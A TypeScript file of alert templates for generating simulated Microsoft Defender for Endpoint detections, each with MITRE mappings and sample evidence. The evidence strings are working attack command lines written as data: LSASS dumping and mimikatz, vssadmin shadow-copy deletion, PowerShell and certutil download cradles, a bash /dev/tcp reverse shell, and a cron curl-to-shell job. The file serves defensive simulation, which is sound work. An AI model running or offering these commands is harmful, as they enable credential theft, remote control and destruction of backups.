// Alert content the generator draws from: titles, categories, MITRE techniques and evidence
// modelled on real MDE detections (LSASS access, ransomware, encoded PowerShell, …).
import type { OsFamily } from "../model";

export interface ProcessSample {
  fileName: string;
  filePath: string;
  commandLine: string;
  parentFileName: string;
  parentFilePath: string;
}

export interface AlertTemplate {
  title: string;
  description: string;
  category: string;
  mitreTechniques: string[];
  severities: readonly (readonly [string, number])[];
  detectionSource: string;
  threatFamilyName: string | null;
  threatName: string | null;
  families: readonly OsFamily[];
  processes: readonly ProcessSample[];
  files: readonly { fileName: string; filePath: string }[];
  urls: readonly string[];
  ips: readonly string[];
  registry: { key: string; hive: string; valueName: string; value: string } | null;
  weight: number;
  /** Theme used to name incidents (e.g. "Ransomware activity"). */
  theme: string;
}

const WIN: OsFamily[] = ["windows", "server"];
const DESKTOP: OsFamily[] = ["windows"];
const ps = (commandLine: string, parent = "explorer.exe"): ProcessSample => ({
  fileName: "powershell.exe", filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", commandLine,
  parentFileName: parent, parentFilePath: parent === "explorer.exe" ? "C:\\Windows" : "C:\\Windows\\System32",
});

export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  {
    title: "Suspicious access to LSASS service",
    description: "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS). Attackers read LSASS memory to obtain credentials of users who signed in to the device.",
    category: "CredentialAccess", mitreTechniques: ["T1003", "T1003.001"], severities: [["High", 5], ["Medium", 5]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [
      { fileName: "procdump64.exe", filePath: "C:\\Users\\Public\\Downloads", commandLine: "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" },
      { fileName: "rundll32.exe", filePath: "C:\\Windows\\System32", commandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\Windows\\Temp\\out.dmp full", parentFileName: "powershell.exe", parentFilePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0" },
    ],
    files: [{ fileName: "lsass.dmp", filePath: "C:\\Windows\\Temp" }], urls: [], ips: [], registry: null, weight: 4, theme: "Credential theft",
  },
  {
    title: "Possible credential dumping via LSASS memory (Mimikatz)",
    description: "Mimikatz, a credential theft tool, was detected. It extracts plaintext passwords, hashes and Kerberos tickets from LSASS memory.",
    category: "CredentialAccess", mitreTechniques: ["T1003", "T1003.001", "T1558"], severities: [["High", 1]],
    detectionSource: "WindowsDefenderAv", threatFamilyName: "Mimikatz", threatName: "HackTool:Win32/Mimikatz.D", families: WIN,
    processes: [{ fileName: "mimikatz.exe", filePath: "C:\\ProgramData\\tmp", commandLine: "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [{ fileName: "mimikatz.exe", filePath: "C:\\ProgramData\\tmp" }], urls: [], ips: [], registry: null, weight: 2, theme: "Credential theft",
  },
  {
    title: "ASR rule blocked credential stealing from LSASS",
    description: "Attack surface reduction rule 'Block credential stealing from the Windows local security authority subsystem (lsass.exe)' blocked a process from opening LSASS.",
    category: "CredentialAccess", mitreTechniques: ["T1003.001"], severities: [["Informational", 7], ["Low", 3]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: DESKTOP,
    processes: [{ fileName: "taskmgr.exe", filePath: "C:\\Windows\\System32", commandLine: "\"C:\\Windows\\system32\\taskmgr.exe\" /4", parentFileName: "explorer.exe", parentFilePath: "C:\\Windows" }],
    files: [], urls: [], ips: [], registry: null, weight: 8, theme: "Credential theft",
  },
  {
    title: "Ransomware behavior detected in the file system",
    description: "A process encrypted many files in a short time and renamed them with an unusual extension, a pattern typical of ransomware.",
    category: "Ransomware", mitreTechniques: ["T1486"], severities: [["High", 1]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: "LockBit", threatName: "Ransom:Win32/LockBit.MK", families: WIN,
    processes: [{ fileName: "svchost32.exe", filePath: "C:\\Users\\Public", commandLine: "svchost32.exe -pass 7f2a -path C:\\Shares", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [{ fileName: "svchost32.exe", filePath: "C:\\Users\\Public" }, { fileName: "Restore-My-Files.txt", filePath: "C:\\Shares\\Finance" }], urls: [], ips: ["198.51.100.23"], registry: null, weight: 2, theme: "Ransomware activity",
  },
  {
    title: "File backups were deleted",
    description: "Volume shadow copies were deleted, which prevents recovery of encrypted files. Ransomware operators do this before encrypting data.",
    category: "Ransomware", mitreTechniques: ["T1490", "T1486"], severities: [["High", 8], ["Medium", 2]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "vssadmin.exe", filePath: "C:\\Windows\\System32", commandLine: "vssadmin.exe delete shadows /all /quiet", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [], urls: [], ips: [], registry: null, weight: 2, theme: "Ransomware activity",
  },
  {
    title: "Potential human-operated malicious activity",
    description: "A sequence of hands-on-keyboard activity was observed: discovery, credential access and lateral movement tools were run interactively.",
    category: "Ransomware", mitreTechniques: ["T1486", "T1021.002", "T1087"], severities: [["High", 1]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "PsExec64.exe", filePath: "C:\\Windows\\Temp", commandLine: "PsExec64.exe \\\\fs01 -s -d cmd.exe /c \"C:\\Windows\\Temp\\run.bat\"", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [{ fileName: "run.bat", filePath: "C:\\Windows\\Temp" }], urls: [], ips: ["10.20.4.17"], registry: null, weight: 1, theme: "Ransomware activity",
  },
  {
    title: "Suspicious PowerShell command line",
    description: "A PowerShell command line with obfuscated or encoded content was run. Attackers use encoded commands to hide their intent.",
    category: "Execution", mitreTechniques: ["T1059.001", "T1027"], severities: [["Medium", 6], ["Low", 3], ["High", 1]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [
      ps("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
      ps("powershell.exe -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('http://203.0.113.50/a'))\"", "winword.exe"),
    ],
    files: [], urls: ["http://203.0.113.50/a"], ips: ["203.0.113.50"], registry: null, weight: 8, theme: "Suspicious execution",
  },
  {
    title: "Office application spawned a suspicious child process",
    description: "A Microsoft Office application started a scripting engine or command shell, a common sign of a malicious macro.",
    category: "InitialAccess", mitreTechniques: ["T1204.002", "T1566.001"], severities: [["Medium", 8], ["High", 2]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: DESKTOP,
    processes: [{ fileName: "cmd.exe", filePath: "C:\\Windows\\System32", commandLine: "cmd.exe /c certutil -urlcache -split -f http://203.0.113.77/inv.exe %TEMP%\\inv.exe", parentFileName: "EXCEL.EXE", parentFilePath: "C:\\Program Files\\Microsoft Office\\root\\Office16" }],
    files: [{ fileName: "Invoice_8812.xlsm", filePath: "C:\\Users\\Public\\Downloads" }], urls: ["http://203.0.113.77/inv.exe"], ips: [], registry: null, weight: 5, theme: "Phishing",
  },
  {
    title: "Suspicious URL clicked",
    description: "A user opened a link in an email that leads to a known phishing page.",
    category: "InitialAccess", mitreTechniques: ["T1566.002"], severities: [["Medium", 5], ["Low", 5]],
    detectionSource: "SmartScreen", threatFamilyName: null, threatName: null, families: ["windows", "macos", "ios", "android"],
    processes: [], files: [], urls: ["https://login-micros0ft-support.example.net/owa"], ips: ["192.0.2.44"], registry: null, weight: 6, theme: "Phishing",
  },
  {
    title: "'Wacatac' malware was detected",
    description: "Malware was detected and quarantined by Microsoft Defender Antivirus.",
    category: "Malware", mitreTechniques: [], severities: [["Low", 6], ["Medium", 4]],
    detectionSource: "WindowsDefenderAv", threatFamilyName: "Wacatac", threatName: "Trojan:Win32/Wacatac.B!ml", families: DESKTOP,
    processes: [], files: [{ fileName: "setup_crack.exe", filePath: "C:\\Users\\Public\\Downloads" }], urls: [], ips: [], registry: null, weight: 8, theme: "Malware",
  },
  {
    title: "Potentially unwanted application detected",
    description: "A potentially unwanted application (PUA) such as adware or a bundled installer was blocked.",
    category: "UnwantedSoftware", mitreTechniques: [], severities: [["Informational", 7], ["Low", 3]],
    detectionSource: "WindowsDefenderAv", threatFamilyName: "Presenoker", threatName: "PUA:Win32/Presenoker", families: ["windows", "macos"],
    processes: [], files: [{ fileName: "FreePDFConverterSetup.exe", filePath: "C:\\Users\\Public\\Downloads" }], urls: [], ips: [], registry: null, weight: 12, theme: "Unwanted software",
  },
  {
    title: "Suspicious process injection observed",
    description: "A process injected code into another process, a technique used to evade defenses and run in a trusted context.",
    category: "DefenseEvasion", mitreTechniques: ["T1055", "T1055.012"], severities: [["Medium", 7], ["High", 3]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "rundll32.exe", filePath: "C:\\Windows\\SysWOW64", commandLine: "rundll32.exe c:\\temp\\suspicious.dll,RepeatAfterMe", parentFileName: "rundll32.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [{ fileName: "suspicious.dll", filePath: "C:\\temp" }], urls: [], ips: [], registry: null, weight: 4, theme: "Defense evasion",
  },
  {
    title: "Suspicious scheduled task",
    description: "A scheduled task was created that runs a script from a user-writable location at logon.",
    category: "Persistence", mitreTechniques: ["T1053.005"], severities: [["Medium", 6], ["Low", 4]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "schtasks.exe", filePath: "C:\\Windows\\System32", commandLine: "schtasks.exe /Create /SC ONLOGON /TN \"OneDrive Updater\" /TR \"C:\\Users\\Public\\upd.vbs\"", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [{ fileName: "upd.vbs", filePath: "C:\\Users\\Public" }], urls: [], ips: [], registry: null, weight: 5, theme: "Persistence",
  },
  {
    title: "Suspicious WMI event subscription",
    description: "A WMI event consumer was registered to run a command, a fileless persistence technique.",
    category: "Persistence", mitreTechniques: ["T1546.003"], severities: [["Medium", 7], ["High", 3]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "wmic.exe", filePath: "C:\\Windows\\System32\\wbem", commandLine: "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"upd\"", parentFileName: "powershell.exe", parentFilePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0" }],
    files: [], urls: [], ips: [], registry: { key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Wbem\\ESS", hive: "HKEY_LOCAL_MACHINE", valueName: "upd", value: "powershell.exe -w hidden -enc SQBFAFgA" }, weight: 2, theme: "Persistence",
  },
  {
    title: "Anomalous account lookups",
    description: "A user account queried many accounts and groups in Active Directory, typical of reconnaissance before lateral movement.",
    category: "Discovery", mitreTechniques: ["T1087", "T1087.002", "T1069"], severities: [["Low", 6], ["Medium", 4]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "net.exe", filePath: "C:\\Windows\\System32", commandLine: "net group \"Domain Admins\" /domain", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [], urls: [], ips: [], registry: null, weight: 5, theme: "Reconnaissance",
  },
  {
    title: "Suspicious remote service creation",
    description: "A service was created remotely on this device using administrative shares, a common lateral movement technique.",
    category: "LateralMovement", mitreTechniques: ["T1021.002", "T1569.002"], severities: [["High", 3], ["Medium", 7]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "services.exe", filePath: "C:\\Windows\\System32", commandLine: "C:\\Windows\\system32\\services.exe", parentFileName: "wininit.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [{ fileName: "PSEXESVC.exe", filePath: "C:\\Windows" }], urls: [], ips: ["10.20.4.17"], registry: null, weight: 3, theme: "Lateral movement",
  },
  {
    title: "Connection to a custom network indicator",
    description: "The device connected to an address on the organization's custom indicator list.",
    category: "CommandAndControl", mitreTechniques: ["T1071.001"], severities: [["Medium", 5], ["High", 2], ["Low", 3]],
    detectionSource: "CustomTi", threatFamilyName: null, threatName: null, families: ["windows", "server", "macos", "linux"],
    processes: [], files: [], urls: ["http://cdn-update.badhost.example/beacon"], ips: ["198.51.100.77"], registry: null, weight: 4, theme: "Command and control",
  },
  {
    title: "Automated investigation started manually",
    description: "An automated investigation was started manually by a security operator.",
    category: "SuspiciousActivity", mitreTechniques: [], severities: [["Informational", 1]],
    detectionSource: "AutomatedInvestigation", threatFamilyName: null, threatName: null, families: WIN,
    processes: [], files: [], urls: [], ips: [], registry: null, weight: 5, theme: "Investigation",
  },
  {
    title: "Suspicious sequence of exploration activities",
    description: "Several discovery commands (whoami, ipconfig, net, nltest) ran in quick succession.",
    category: "Discovery", mitreTechniques: ["T1033", "T1016", "T1482"], severities: [["Low", 5], ["Medium", 5]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
    processes: [{ fileName: "nltest.exe", filePath: "C:\\Windows\\System32", commandLine: "nltest /domain_trusts /all_trusts", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" }],
    files: [], urls: [], ips: [], registry: null, weight: 4, theme: "Reconnaissance",
  },
  {
    title: "Suspicious launchd persistence",
    description: "A launch agent was created that starts a binary from a hidden folder at logon.",
    category: "Persistence", mitreTechniques: ["T1543.001"], severities: [["Medium", 6], ["Low", 4]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: ["macos"],
    processes: [{ fileName: "launchctl", filePath: "/bin", commandLine: "launchctl load -w /Users/Shared/.agent/com.apple.updater.plist", parentFileName: "bash", parentFilePath: "/bin" }],
    files: [{ fileName: "com.apple.updater.plist", filePath: "/Users/Shared/.agent" }], urls: [], ips: [], registry: null, weight: 3, theme: "Persistence",
  },
  {
    title: "Reverse shell detected",
    description: "A shell process redirected its input and output to a remote network connection.",
    category: "Execution", mitreTechniques: ["T1059.004"], severities: [["High", 5], ["Medium", 5]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: ["linux"],
    processes: [{ fileName: "bash", filePath: "/usr/bin", commandLine: "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", parentFileName: "python3", parentFilePath: "/usr/bin" }],
    files: [], urls: [], ips: ["198.51.100.9"], registry: null, weight: 3, theme: "Suspicious execution",
  },
  {
    title: "Suspicious cron job created",
    description: "A cron job was added that downloads and runs a script from the internet.",
    category: "Persistence", mitreTechniques: ["T1053.003"], severities: [["Medium", 7], ["Low", 3]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: ["linux"],
    processes: [{ fileName: "crontab", filePath: "/usr/bin", commandLine: "crontab -l | { cat; echo \"*/5 * * * * curl -s http://203.0.113.9/x.sh | sh\"; } | crontab -", parentFileName: "bash", parentFilePath: "/usr/bin" }],
    files: [], urls: ["http://203.0.113.9/x.sh"], ips: [], registry: null, weight: 3, theme: "Persistence",
  },
  {
    title: "Malicious app detected",
    description: "Microsoft Defender detected a malicious application on the mobile device.",
    category: "Malware", mitreTechniques: [], severities: [["Medium", 6], ["High", 4]],
    detectionSource: "WindowsDefenderAv", threatFamilyName: "Joker", threatName: "Android/Joker.B", families: ["android"],
    processes: [], files: [{ fileName: "com.flashlight.free.apk", filePath: "/sdcard/Download" }], urls: [], ips: [], registry: null, weight: 2, theme: "Malware",
  },
  {
    title: "Jailbroken device detected",
    description: "The device appears to be jailbroken, which disables platform security protections.",
    category: "DefenseEvasion", mitreTechniques: ["T1398"], severities: [["Low", 6], ["Medium", 4]],
    detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: ["ios"],
    processes: [], files: [], urls: [], ips: [], registry: null, weight: 2, theme: "Defense evasion",
  },
];

export const DETECTION_GRAPH_SOURCE: Record<string, string> = {
  WindowsDefenderAtp: "microsoftDefenderForEndpoint",
  WindowsDefenderAv: "antivirus",
  AutomatedInvestigation: "automatedInvestigation",
  CustomTi: "customTi",
  SmartScreen: "smartScreen",
  CustomDetection: "customDetection",
};
